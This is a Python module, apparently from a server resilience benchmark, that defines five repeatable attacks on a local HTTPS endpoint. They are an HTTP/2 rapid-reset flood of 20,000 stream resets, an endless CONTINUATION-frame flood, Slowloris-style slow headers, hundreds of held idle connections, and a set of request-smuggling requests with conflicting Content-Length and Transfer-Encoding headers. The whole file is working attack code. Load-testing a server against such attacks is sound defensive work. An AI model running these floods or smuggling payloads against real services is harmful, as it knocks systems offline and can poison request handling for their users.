"""The attacks of `benchmarks.attacks`: each is called again and again, and makes one round."""

import itertools
import socket
import ssl
import time
from collections.abc import Callable
from contextlib import suppress

import hpack
from hyperframe.frame import ContinuationFrame, Frame, HeadersFrame, RstStreamFrame, SettingsFrame

_HOST = "127.0.0.1"
_OWN = "127.0.0.9"  # the attacker's address
_TIMEOUT_S = 15.0
_STREAMS = 20_000
_CONTINUATIONS = 2_000
_IDLE, _SLOW = 300, 200
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
_HEAD = b"POST /prediction HTTP/1.1\r\nHost: h\r\n"
_FORMS = [
    _HEAD + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
    _HEAD + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\n",
    _HEAD + b"Transfer-Encoding : chunked\r\n\r\n",
    _HEAD + b"X: a\nContent-Length: 5\r\n\r\n",
    _HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"0" * 40,
    _HEAD + b"X: a\r\n b\r\n\r\n",
]
Attack = Callable[[], None]


def _connector(port: int, ca: str, protocol: str) -> Callable[[], ssl.SSLSocket]:
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols([protocol])

    def connect() -> ssl.SSLSocket:
        plain = socket.create_connection((_HOST, port), _TIMEOUT_S, source_address=(_OWN, 0))
        return context.wrap_socket(plain, server_hostname=_HOST)

    return connect


def _flood(port: int, ca: str, frames: bytes) -> Attack:
    connect = _connector(port, ca, "h2")

    def attack() -> None:
        with suppress(OSError), connect() as connection:
            for start in range(0, len(frames), 1 << 16):
                connection.sendall(frames[start : start + (1 << 16)])
            while connection.recv(1 << 16):
                pass

    return attack


def _headers(stream: int, *, whole: bool = True) -> Frame:
    fields = [(":method", "POST"), (":path", "/prediction"), (":scheme", "https")]
    frame = HeadersFrame(stream, hpack.Encoder().encode([*fields, (":authority", "localhost")]))
    if whole:
        frame.flags.add("END_HEADERS")
    return frame


def _rapid_reset(port: int, ca: str) -> Attack:
    ids = range(1, 2 * _STREAMS, 2)
    pairs = ((_headers(k), RstStreamFrame(k, error_code=8)) for k in ids)
    frames = b"".join(frame.serialize() for frame in itertools.chain.from_iterable(pairs))
    return _flood(port, ca, _PREFACE + frames)


def _continuations(port: int, ca: str) -> Attack:
    endless = [_headers(1, whole=False)]
    endless += [ContinuationFrame(1, b"\x00\x01a\x01b" * 100) for _ in range(_CONTINUATIONS)]
    return _flood(port, ca, _PREFACE + b"".join(frame.serialize() for frame in endless))


def _slow_heads(port: int, ca: str) -> Attack:
    connect = _connector(port, ca, "http/1.1")
    held: list[ssl.SSLSocket] = []

    def attack() -> None:
        """Send a byte of a head on each connection, and open those anew that were closed."""
        for connection in list(held):
            try:
                connection.sendall(b"x")
            except OSError:
                held.remove(connection)
                connection.close()
        with suppress(OSError):
            while len(held) < _SLOW:
                held.append(connect())
                held[-1].sendall(b"POST /prediction HTTP/1.1\r\nX: ")
        time.sleep(0.5)

    return attack


def _idle(port: int, ca: str) -> Attack:
    connect = _connector(port, ca, "http/1.1")
    held: list[ssl.SSLSocket] = []

    def attack() -> None:
        """Open what is missing, and leave it at that."""
        for connection in list(held):
            connection.settimeout(0)
            with suppress(ssl.SSLWantReadError):
                try:
                    if not connection.recv(1):
                        held.remove(connection)
                except ConnectionError:
                    held.remove(connection)
        with suppress(OSError):
            while len(held) < _IDLE:
                held.append(connect())
        time.sleep(0.5)

    return attack


def _smuggling(port: int, ca: str) -> Attack:
    connect = _connector(port, ca, "http/1.1")

    def attack() -> None:
        for form in _FORMS:
            with suppress(OSError), connect() as connection:
                connection.sendall(form)
                while connection.recv(1 << 12):
                    pass

    return attack


ATTACKS: dict[str, Callable[[int, str], Attack]] = {
    "rapid reset": _rapid_reset,
    "continuations": _continuations,
    "slow heads": _slow_heads,
    "300 idle connections": _idle,
    "smuggling forms": _smuggling,
}
